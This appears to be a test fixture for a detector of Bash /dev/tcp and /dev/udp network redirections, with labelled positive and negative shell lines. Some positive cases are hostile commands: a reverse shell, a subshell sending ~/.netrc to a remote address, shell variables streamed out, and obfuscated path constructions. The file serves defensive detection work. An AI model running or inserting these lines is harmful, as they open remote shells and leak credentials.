#@ pos redirect from /dev/tcp
cat < /dev/tcp/example.com/80
#@ pos exec opens /dev/tcp on a descriptor
exec 3<>/dev/tcp/10.0.0.1/4444
#@ pos reverse shell
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
#@ pos /dev/udp in a string with variables
echo "$msg" > "/dev/udp/$host/$port"
#@ pos built from a variable
d=/dev/tcp
exec 5<>"$d/10.0.0.1/80"
#@ pos hidden in an ansi-c string
cat < $'\x2fdev/tcp/10.0.0.1/80'
#@ pos in a word with a variable host
echo ping > /dev/tcp/$HOST/7
#@ neg other devices
echo x > /dev/null
cat /dev/urandom | head -c 16 > key
#@ neg in a comment
# exec 3<>/dev/tcp/10.0.0.1/4444
echo done
#@ neg a path that only looks alike
ls /dev/tcpdump-captures
#@ pos the /dev/tcp path printed into a quoted name by printf -v
printf -v so''ck '/dev/%s/%s/%s' tcp 203.0.113.9 443; exec 3<>"$sock"
#@ neg a port probe: a command that reads and writes nothing, or exec alone in a subshell
until (exec 3<>"/dev/tcp/$host/$port") 2>/dev/null; do sleep 1; done
: </dev/tcp/db/5432 && echo up
true > "/dev/tcp/$host/80"
#@ pos exec kept open outside a subshell
exec 3<>"/dev/tcp/$host/$port"; cat <&3
#@ pos exec in a subshell that sends through it
(exec 3<>/dev/tcp/203.0.113.9/80; cat ~/.netrc >&3)
#@ pos a redirect of a loop's output to /dev/tcp
while read -r v; do echo "$v"; done < <(compgen -v) > /dev/tcp/10.0.0.1/9000
